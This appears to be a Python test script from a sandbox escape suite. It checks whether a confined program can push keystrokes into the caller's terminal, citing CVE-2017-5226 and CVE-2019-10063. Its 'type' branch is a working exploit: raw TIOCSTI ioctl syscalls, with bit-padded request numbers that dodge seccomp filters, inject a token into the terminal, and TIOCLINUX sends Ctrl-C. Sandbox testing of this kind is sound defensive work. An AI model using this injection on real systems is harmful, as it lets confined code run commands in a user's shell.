"""Typing into the caller's terminal (CVE-2017-5226, CVE-2019-10063, escape list 19). `watch COMMAND` runs a command on a
terminal of its own and prints what was typed into that terminal meanwhile; `type` is the attack. What a program prints to a
terminal as control sequences is out of scope: the terminal obeys them, and the gate's filters are elsewhere."""

import ctypes, fcntl, os, pty, sys, termios, time

if sys.argv[1] == "type":
    libc = ctypes.CDLL(None, use_errno=True)
    places = [0, 1, 2]
    try:
        places.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for fd in places:
        for request in (0x5412, 0x5412 | 1 << 32, 0x5412 | 1 << 63):
            for letter in os.environ["TOKEN"]:
                libc.syscall(ctypes.c_long(16), ctypes.c_long(fd), ctypes.c_ulong(request), ctypes.c_char_p(letter.encode()))
        for request in (0x541c, 0x541c | 1 << 32):
            libc.syscall(ctypes.c_long(16), ctypes.c_long(fd), ctypes.c_ulong(request), ctypes.c_char_p(b"\x03"))
else:
    ours, theirs = pty.openpty()
    settings = termios.tcgetattr(theirs)
    settings[3] &= ~(termios.ICANON | termios.ECHO)
    termios.tcsetattr(theirs, termios.TCSANOW, settings)
    child = os.fork()
    if child == 0:
        os.setsid()
        fcntl.ioctl(theirs, termios.TIOCSCTTY, 0)
        for fd in range(3):
            os.dup2(theirs, fd)
        os.execvp(sys.argv[2], sys.argv[2:])
    # Its output is read away, or it would wait.
    os.set_blocking(ours, False)
    while os.waitpid(child, os.WNOHANG)[0] == 0:
        try:
            sys.stderr.buffer.write(os.read(ours, 65536))
        except OSError:
            time.sleep(0.01)
    termios.tcsetattr(theirs, termios.TCSANOW, settings)
    os.set_blocking(theirs, False)
    try:
        print("TYPED", os.read(theirs, 65536).decode(errors="replace"))
    except OSError:
        print("TYPED nothing")
